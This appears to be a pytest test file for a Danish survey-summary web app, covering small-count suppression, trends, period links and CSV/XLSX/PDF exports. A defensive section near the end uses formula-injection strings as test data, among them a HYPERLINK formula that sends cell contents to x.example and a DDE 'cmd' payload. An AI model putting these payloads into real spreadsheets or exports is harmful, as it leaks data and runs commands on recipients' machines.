"""The weekly summary staff read: suppressed counts, never a small number."""

import datetime
import re

import pytest

from app import accounts, db

from .test_staff import PASSWORD, sign_in


def answer(database, centre, week, answers):
    db.record_response(database, centre_id=centre["id"], iso_week=week, channel="kiosk", language="da",
                       question_set=1, answers=answers)


@pytest.fixture(autouse=True)
def in_march_2025(app):
    """Only weeks 1-11 of 2025 have closed: the tests stay small (see the closing note on speed)."""
    app.config["CLOCK"] = datetime.datetime(2025, 3, 20, 12, 0)


@pytest.fixture
def centre_with_answers(database, make_centre):
    centre = make_centre("Café Tal", slug="tal")
    person = db.create_staff(database, "anna@example.dk", accounts.hash_password(PASSWORD))
    db.set_membership(database, person["id"], centre["id"], "staff")
    for _ in range(8):
        answer(database, centre, "2025-W10", [("importance", "9"), ("reasons", "meet_people"), ("frequency", "daily")])
    for _ in range(6):
        answer(database, centre, "2025-W10", [("importance", "10"), ("reasons", "meal")])
    answer(database, centre, "2025-W10", [("importance", "1"), ("reasons", "meal")])
    for score in "33355":  # with the one who gave 1, six gave 1-6: a band that can be shown
        answer(database, centre, "2025-W10", [("importance", score), ("reasons", "meal")])
    for _ in range(2):
        answer(database, centre, "2025-W11", [("importance", "7")])
    return centre


def row(html, label):
    match = re.search(rf"<th scope=\"row\">{re.escape(label)}</th>\s*<td class=\"num\">([^<]*)</td>", html)
    return match.group(1).strip() if match else None


def test_the_summary_shows_counts_shares_and_hides_small_ones(client, centre_with_answers):
    sign_in(client, "anna@example.dk")
    page = client.get("/staff/c/tal/summary/2025-W10")
    html = page.get_data(as_text=True)
    assert page.status_code == 200 and page.headers["Cache-Control"] == "no-store"
    assert "uge 10 · 2025" in html and "<strong>20</strong> svar" in html
    assert row(html, "9") == "8" and row(html, "10") == "6"
    assert row(html, "1") == "&lt; 5" and row(html, "3") == "&lt; 5"  # one gave 1, three gave 3: never shown as such
    assert row(html, "2") == "0" and row(html, "8") == "0"  # nobody gave 2 or 8: a zero points to nobody
    assert row(html, "Møde andre mennesker") == "8"
    assert "40,0 %" in html  # 8 of 20, formatted the Danish way
    assert row(html, "1–6") == "6" and row(html, "7–8") == "0" and row(html, "9–10") == "14"  # the bands
    assert "Gav stedet 9 eller 10 ud af 10: <strong>70,0 %</strong>" in html
    assert "Antal fra 1 til 4 vises som" in html  # this week has a "< 5": the note explains it


def test_importance_is_a_column_chart_that_says_no_more_than_its_table(client, centre_with_answers):
    sign_in(client, "anna@example.dk")
    html = client.get("/staff/c/tal/summary/2025-W10").get_data(as_text=True)
    chart = re.search(r'<svg class="columns"[^>]*>(.*?)</svg>', html, re.S)
    assert chart and 'aria-hidden="true"' in chart.group(0)  # the table after it is the text equivalent
    labels = re.findall(r'<text class="label"[^>]*>([^<]*)</text>', chart.group(1))
    values = re.findall(r'<text class="value"[^>]*>([^<]*)</text>', chart.group(1))
    assert labels == [str(n) for n in range(1, 11)]
    assert values[8:] == ["8", "6"] and values[0] == "&lt; 5" and values[1] == "0"
    assert chart.group(1).count('class="withheld"') == sum(v in ("&lt; 5", "–") for v in values)
    assert all(v in ("&lt; 5", "–", "0") or int(v) >= 5 for v in values)


def test_a_count_whose_complement_is_small_is_withheld(client, database, make_centre, centre_with_answers):
    for _ in range(6):  # 14 of 15 came to meet people: "only one did not" must not show either
        answer(database, centre_with_answers, "2025-W09", [("reasons", "meet_people")])
    for _ in range(8):
        answer(database, centre_with_answers, "2025-W09", [("reasons", "meet_people"), ("importance", "8")])
    answer(database, centre_with_answers, "2025-W09", [("reasons", "meal")])
    sign_in(client, "anna@example.dk")
    html = client.get("/staff/c/tal/summary/2025-W09").get_data(as_text=True)
    assert "<strong>15</strong> svar" in html
    assert row(html, "Møde andre mennesker") == "–"


def busy_weeks(database, centre, weeks, per_week=20, tens=15):
    for week in weeks:
        for n in range(per_week):
            answer(database, centre, week, [("importance", "10" if n < tens else "8"), ("reasons", "meet_people")])


@pytest.mark.calendar
def test_a_week_shows_the_last_12_weeks_when_the_weeks_show_them(client, database, make_centre):
    centre = make_centre("Café Fuld", slug="fuld")
    person = db.create_staff(database, "bo@example.dk", accounts.hash_password(PASSWORD))
    db.set_membership(database, person["id"], centre["id"], "staff")
    busy_weeks(database, centre, [f"2025-W{w:02d}" for w in range(1, 12)])
    sign_in(client, "bo@example.dk")
    html = client.get("/staff/c/fuld/summary/2025-W11").get_data(as_text=True)
    trend = html[html.index("De sidste 12 uger"):]
    assert 'data-notice="trend-level"' not in html
    # Nothing withheld in this week or its trend: no note explaining "< 5" and dashes (issue 17).
    assert "Andelene er af alle, der svarede i perioden." in html and "Antal fra 1 til" not in html
    assert row(trend, "uge 11 · 2025") == "20" and row(trend, "uge 52 · 2024") == "0"  # nobody answered then
    assert re.search(r'uge 11 · 2025</th>\s*<td class="num">20</td>\s*<td class="num">75,0 %</td>', trend)
    answers_chart = re.search(r'<svg class="columns trend"[^>]*>(.*?)</svg>', trend, re.S).group(1)
    assert re.findall(r'<text class="label"[^>]*>([^<]*)</text>', answers_chart)[-2:] == ["10", "11"]
    assert re.findall(r'<text class="value"[^>]*>([^<]*)</text>', answers_chart)[-2:] == ["20", "20"]


@pytest.mark.calendar
def test_the_trend_steps_up_to_four_week_periods_where_weeks_would_withhold_it_and_says_so(
        client, database, make_centre):
    centre = make_centre("Café Trin", slug="trin")
    person = db.create_staff(database, "eva@example.dk", accounts.hash_password(PASSWORD))
    db.set_membership(database, person["id"], centre["id"], "staff")
    # Six a week, three of them giving 10: a week's "9 or 10" is 3, too few to show; a block's is 12.
    weeks = [f"2024-W{w:02d}" for w in range(30, 53)] + [f"2025-W{w:02d}" for w in range(1, 12)]
    busy_weeks(database, centre, weeks, per_week=6, tens=3)
    sign_in(client, "eva@example.dk")
    html = client.get("/staff/c/trin/summary/2025-W11").get_data(as_text=True)
    trend = html[html.index("De sidste 12 fireugersperioder"):]
    assert "Nogle ugers tal er tilbageholdt, så udviklingen vises i fireugersperioder i stedet." in html
    # Weeks 9-13 have not all closed: the last block shown is weeks 5-8.
    assert re.search(r'uge 5–8 · 2025</th>\s*<td class="num">24</td>\s*<td class="num">50,0 %</td>', trend)
    assert re.search(r'uge 1–4 · 2025</th>\s*<td class="num">24</td>\s*<td class="num">50,0 %</td>', trend)


def test_a_week_with_too_few_answers_shows_nothing(client, centre_with_answers):
    sign_in(client, "anna@example.dk")
    html = client.get("/staff/c/tal/summary/2025-W11").get_data(as_text=True)
    assert "For få svar i perioden" in html
    assert "Hvor vigtigt er dette sted for dig?" not in html  # no breakdown, only the trend


@pytest.mark.calendar
def test_periods_not_over_and_off_the_grid_are_refused(client, centre_with_answers):
    sign_in(client, "anna@example.dk")
    future = client.get("/staff/c/tal/summary/2025-W12")
    assert future.status_code == 404 and "Perioden er ikke slut endnu" in future.get_data(as_text=True)
    assert client.get("/staff/c/tal/summary/2025-11-01").status_code == 404


def hrefs(html):
    return re.findall(r'href="/staff/c/tal/summary/([^"]+)"', html)


@pytest.mark.calendar
def test_the_address_of_an_open_period_says_when_it_closes_and_leads_to_the_newest_closed_one(client, centre_with_answers):
    sign_in(client, "anna@example.dk")
    page = client.get("/staff/c/tal/summary/2025-Q1")  # weeks 1-13 of 2025; it is week 12
    html = page.get_data(as_text=True)
    assert page.status_code == 404
    assert "den varer til og med søndag den 30. marts 2025" in html
    assert "Tallene vises fra mandag den 31. marts 2025 kl. 01.00" in html
    assert set(hrefs(html)) == {"2024-Q4", "2025-W11"}  # the newest quarter that is over, and the last week


def test_the_summary_links_every_closed_period_of_its_year_and_no_open_one(client, centre_with_answers):
    sign_in(client, "anna@example.dk")
    html = client.get("/staff/c/tal/summary/2025-W10").get_data(as_text=True)
    picker = html[html.index('<nav class="period-picker"'):html.index("</nav>", html.index('<nav class="period-picker"'))]
    linked = set(hrefs(picker))
    closed = {f"2025-W{n:02d}" for n in range(1, 12)} | {"2025-B01", "2025-B02"}
    assert linked == closed - {"2025-W10"}  # the week shown is marked, not linked
    assert '<strong aria-current="page" aria-label="uge 10 · 2025">10</strong>' in picker
    assert '<span class="open-period" aria-label="uge 12 · 2025">12</span>' in picker  # shown, never offered
    assert '<span class="open-period">1. kvartal</span>' in picker and "2024" not in picker  # no figures before 2025
    assert 'rel="prev">← Før: uge 9 · 2025' in picker and 'rel="next">Efter: uge 11 · 2025' in picker
    block = client.get("/staff/c/tal/summary/2025-B02").get_data(as_text=True)
    assert 'href="/staff/c/tal/summary/2025-W08" data-level="week"' in block  # finer: its latest week
    assert 'rel="next"' not in block  # weeks 9-13 have not closed


def test_decisions_are_kept_once_taken(client, database, centre_with_answers):
    sign_in(client, "anna@example.dk")
    client.get("/staff/c/tal/summary/2025-W10")
    statuses, k = db.published_statuses(database, centre_with_answers["id"], 2025)
    assert k == 5
    assert statuses[("2025-W10", "N")] == "shown" and statuses[("2025-W11", "N")] == "small"
    assert statuses[("2025-W10", "importance|1")] == "small"
    # Whatever is answered later (a restored backup, say) cannot change what was shown.
    answer(database, centre_with_answers, "2025-W11", [("importance", "7")] * 1)
    client.get("/staff/c/tal/summary/2025-W11")
    assert db.published_statuses(database, centre_with_answers["id"], 2025) == (statuses, 5)


def test_csv_download_opens_in_danish_excel_and_keeps_small_counts_hidden(client, centre_with_answers):
    import csv
    import io

    sign_in(client, "anna@example.dk")
    response = client.get("/staff/c/tal/summary/2025-W10/download.csv")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == 'attachment; filename="brugerstemmen-tal-2025-W10.csv"'
    body = response.data
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Værested", "Café Tal"] and rows[2] == ["Svar", "20"]
    importance = {r[1]: (r[2], r[3]) for r in rows if r and r[0] == "Hvor vigtigt er dette sted for dig?"}
    assert importance["9"] == ("8", "40,0") and importance["1"] == ("< 5", "") and importance["2"] == ("0", "0,0")


def test_xlsx_download_has_a_sheet_per_question(client, centre_with_answers):
    import io

    from openpyxl import load_workbook

    sign_in(client, "anna@example.dk")
    response = client.get("/staff/c/tal/summary/2025-W10/download.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    assert book.sheetnames[0] == "Opsummering" and len(book.sheetnames) >= 6
    importance = book[book.sheetnames[1]]
    values = {row[0]: row[1:] for row in importance.iter_rows(min_row=3, values_only=True)}
    assert values["9"][0] == 8 and abs(values["9"][1] - 8 / 20) < 1e-9
    assert values["1"] == ("< 5", None)
    assert client.get("/staff/c/tal/summary/2025-W10/download.docx").status_code == 404


@pytest.mark.parametrize("language, sheets", [
    ("da", ["Opsummering", "Hvor vigtigt stedet er", "Hvorfor de kommer", "Hvor tit", "Betydning – Fællesskab",
            "Betydning – Mindre alene", "Betydning – Respekteret", "Betydning – Indflydelse",
            "Betydning – Skridt i livet", "Ønsker"]),
    ("en", ["Summary", "Importance", "Why people come", "How often", "Meaning – Community", "Meaning – Less alone",
            "Meaning – Respected", "Meaning – Having a say", "Meaning – Steps in life", "Wishes"]),
])
def test_xlsx_sheets_are_named_for_their_question_each_its_own_within_31_characters(client, centre_with_answers,
                                                                                    language, sheets):
    import io

    from openpyxl import load_workbook

    sign_in(client, "anna@example.dk")
    book = load_workbook(io.BytesIO(client.get(f"/staff/c/tal/summary/2025-W10/download.xlsx?lang={language}").data))
    assert book.sheetnames == sheets
    assert len({name.casefold() for name in book.sheetnames}) == len(sheets)
    assert all(len(name) <= 31 for name in book.sheetnames)
    assert book["Betydning – Skridt i livet" if language == "da" else "Meaning – Steps in life"]["A1"].value.endswith(
        "skridt, der betyder noget for mig" if language == "da" else "steps in my life that matter to me")


def pdf_text(tmp_path, body, *args):
    import subprocess

    path = tmp_path / "out.pdf"
    path.write_bytes(body)
    return subprocess.run(["pdftotext", *args, str(path), "-"], capture_output=True, text=True, check=True).stdout


@pytest.mark.parametrize("language", ["da", "en"])
def test_the_pdf_never_cuts_a_sentence(client, centre_with_answers, tmp_path, language):
    from flask_babel import force_locale, gettext

    from app import questions

    sign_in(client, "anna@example.dk")
    body = client.get(f"/staff/c/tal/summary/2025-W10/download.pdf?lang={language}").data
    text = " ".join(pdf_text(tmp_path, body).split())  # lines joined: a wrapped sentence reads whole
    assert "…" not in text
    with client.application.test_request_context(), force_locale(language):
        whole = [gettext(f.text) for f in questions.load().fields() if f.kind != "text"]
        whole += [gettext(o.text) for f in questions.load().fields() if f.kind not in ("text", "scale") for o in f.options]
    for sentence in whole:
        assert sentence in text, sentence


def test_a_pdf_longer_than_a_page_goes_on_to_the_next_and_keeps_each_row_whole(app, tmp_path):
    from app.pdfdoc import Document

    pdf = Document("test")
    labels = [f"Row {n}: a statement long enough to wrap onto a second line in its column of the table" for n in range(60)]
    pdf.heading("Many rows")
    for label in labels:
        pdf.row([(95, label, "L"), (18, "12", "R")])
    pages = pdf_text(tmp_path, pdf.bytes()).split("\f")
    assert len([page for page in pages if page.strip()]) >= 2
    for label in labels:  # each row whole on one page, never split across two
        assert sum(label in " ".join(page.split()) for page in pages) == 1, label


def test_pdf_download_is_one_a4_page_with_the_suppressed_numbers(client, centre_with_answers, tmp_path):
    import subprocess

    sign_in(client, "anna@example.dk")
    response = client.get("/staff/c/tal/summary/2025-W10/download.pdf")
    assert response.status_code == 200 and response.data.startswith(b"%PDF")
    pdf = tmp_path / "summary.pdf"
    pdf.write_bytes(response.data)
    info = subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True, check=True).stdout
    assert re.search(r"Pages:\s+1\b", info) and "595.28 x 841.89" in info
    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    assert "Café Tal · uge 10 · 2025" in text and "20 svar" in text
    assert "9 eller 10 ud af 10: 70,0 %" in text
    # Importance as columns: each count above its score, "< 5" where one is withheld.
    scores = text.splitlines().index(next(line for line in text.splitlines() if re.fullmatch(r"\s*1(\s+\d+){9}\s*", line)))
    assert re.fullmatch(r"\s*" + r"\s+".join(str(n) for n in range(1, 11)) + r"\s*", text.splitlines()[scores])
    above = "\n".join(text.splitlines()[max(0, scores - 8):scores])
    assert re.search(r"<\s?5", above) and re.search(r"\b8\b", above)
    assert "Jeg føler mig respekteret her" in text
    assert "Antal fra 1 til 4 vises som" in " ".join(text.split())  # a "< 5" here: the note explains it


@pytest.mark.calendar
def test_the_pdf_explains_small_counts_only_where_it_has_one(client, database, make_centre, tmp_path):
    import subprocess

    centre = make_centre("Café Hel", slug="hel")
    person = db.create_staff(database, "ib@example.dk", accounts.hash_password(PASSWORD))
    db.set_membership(database, person["id"], centre["id"], "staff")
    busy_weeks(database, centre, [f"2025-W{w:02d}" for w in range(1, 12)])
    sign_in(client, "ib@example.dk")
    pdf = tmp_path / "summary.pdf"
    pdf.write_bytes(client.get("/staff/c/hel/summary/2025-W11/download.pdf").data)
    text = " ".join(subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout.split())
    assert "Andelene er af alle, der svarede i perioden." in text and "Antal fra 1 til" not in text


def test_messages_show_only_in_weeks_with_enough_answers_and_admins_can_delete_them(
        client, database, data_dir, centre_with_answers):
    centre = centre_with_answers
    for text in ("Mere fællesspisning, tak", "Tak for kaffen hver morgen"):
        db.record_response(database, centre_id=centre["id"], iso_week="2025-W10", channel="phone", language="da",
                           question_set=1, answers=[], message=text)
    for _ in range(8):
        answer(database, centre, "2025-W09", [("importance", "9")])
    db.record_response(database, centre_id=centre["id"], iso_week="2025-W09", channel="phone", language="da",
                       question_set=1, answers=[], message="Jeg er den eneste der kommer om tirsdagen")
    sign_in(client, "anna@example.dk")
    html = client.get("/staff/c/tal/summary/2025-W10").get_data(as_text=True)
    assert "Mere fællesspisning, tak" in html and "Tak for kaffen hver morgen" in html
    assert "Slet denne besked" not in html  # only admins delete
    small_week = client.get("/staff/c/tal/summary/2025-W09").get_data(as_text=True)
    assert "<strong>8</strong> svar" in small_week
    assert "eneste der kommer" not in small_week and "mindst 10 svar" in small_week

    admin = db.create_staff(database, "chef@example.dk", accounts.hash_password(PASSWORD))
    db.set_membership(database, admin["id"], centre["id"], "admin")
    client.post("/staff/logout")
    sign_in(client, "chef@example.dk")
    html = client.get("/staff/c/tal/summary/2025-W10").get_data(as_text=True)
    message_id = re.search(r"/staff/c/tal/messages/([0-9a-f]{32})/delete", html).group(1)
    target = next(m["body"] for m in db.messages_in_week(database, centre["id"], "2025-W10") if m["id"] == message_id)
    response = client.post(f"/staff/c/tal/messages/{message_id}/delete", data={"back": "/staff/c/tal/summary/2025-W10"})
    assert response.status_code == 303 and response.headers["Location"] == "/staff/c/tal/summary/2025-W10"
    assert target not in client.get("/staff/c/tal/summary/2025-W10").get_data(as_text=True)
    raw = b"".join(p.read_bytes() for p in data_dir.iterdir() if p.name.startswith(db.DB_FILENAME))
    assert target.encode() not in raw  # gone from the file, not only from the page


def test_a_year_keeps_the_k_it_started_with(client, database, centre_with_answers):
    sign_in(client, "anna@example.dk")
    client.get("/staff/c/tal/summary/2025-W10")
    db.update_centre(database, "tal", min_cell_size=9)
    html = client.get("/staff/c/tal/summary/2025-W10").get_data(as_text=True)
    assert row(html, "9") == "8"  # would be "< 9" if the new k leaked into a started year


# --- downloads never run what someone typed ------------------------------------------------------

FORMULA_NAME = '=HYPERLINK("http://x.example/?"&A1,"Klik her")'


@pytest.mark.parametrize("typed, written", [
    (FORMULA_NAME, "'" + FORMULA_NAME), ("+45 lige nu", "'+45 lige nu"), ("-1+cmd|'/c calc'!A0", "'-1+cmd|'/c calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("\uff1d1+1", "'\uff1d1+1"),
    ("-3", "-3"), ("-12,5", "-12,5"), ("+7", "+7"), (-3, -3), ("< 5", "< 5"), ("Café Syd", "Café Syd"),
])
def test_a_csv_cell_that_a_spreadsheet_would_read_as_a_formula_is_text(typed, written):
    from app.exports import as_text

    assert as_text(typed) == written


def test_a_centre_named_like_a_formula_stays_text_in_csv_and_xlsx(client, database, centre_with_answers):
    import csv
    import io
    import zipfile

    from openpyxl import load_workbook

    db.update_centre(database, "tal", name=FORMULA_NAME)
    sign_in(client, "anna@example.dk")
    body = client.get("/staff/c/tal/summary/2025-W10/download.csv").data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    assert rows[0] == ["Værested", "'" + FORMULA_NAME]  # Excel shows it without the apostrophe, as text
    assert rows[2] == ["Svar", "20"]  # numbers stay numbers
    xlsx = client.get("/staff/c/tal/summary/2025-W10/download.xlsx").data
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets)  # not one formula anywhere
    overview = load_workbook(io.BytesIO(xlsx))["Opsummering"]
    assert overview["B1"].value == FORMULA_NAME and overview["B1"].data_type == "s"
    assert overview["B1"].quotePrefix  # still text when someone edits the cell
    assert overview["B3"].value == 20 and overview["B3"].data_type == "n"


def test_a_period_decided_before_zeros_were_shown_stays_as_it_was_published(client, database, centre_with_answers):
    """A week decided by an earlier version (rule 1: a zero was "< 5" too) keeps its pattern;
    a week that closes later shows its zeros."""
    from app.suppression import ZEROS_SMALL

    for _ in range(20):
        answer(database, centre_with_answers, "2025-W09", [("importance", "10")])
    # As the earlier version published week 9: nobody gave 1-9, and that read "< 5".
    old = {("2025-W09", "N"): "shown", ("2025-W09", "importance|10"): "shown"}
    old.update({("2025-W09", f"importance|{score}"): "small" for score in range(1, 10)})
    db.save_published(database, centre_with_answers["id"], old, 5, rules={"2025-W09": ZEROS_SMALL})
    assert db.published_rules(database, centre_with_answers["id"], 2025) == {"2025-W09": ZEROS_SMALL}
    sign_in(client, "anna@example.dk")
    html = client.get("/staff/c/tal/summary/2025-W09").get_data(as_text=True)
    assert row(html, "10") == "20" and row(html, "9") == "&lt; 5" and row(html, "2") == "&lt; 5"
    newer = client.get("/staff/c/tal/summary/2025-W10").get_data(as_text=True)
    assert row(newer, "2") == "0"  # decided now: a zero is shown
    rules = db.published_rules(database, centre_with_answers["id"], 2025)
    assert rules["2025-W09"] == ZEROS_SMALL and rules["2025-W10"] == 2 and rules["2025-B02"] == 2
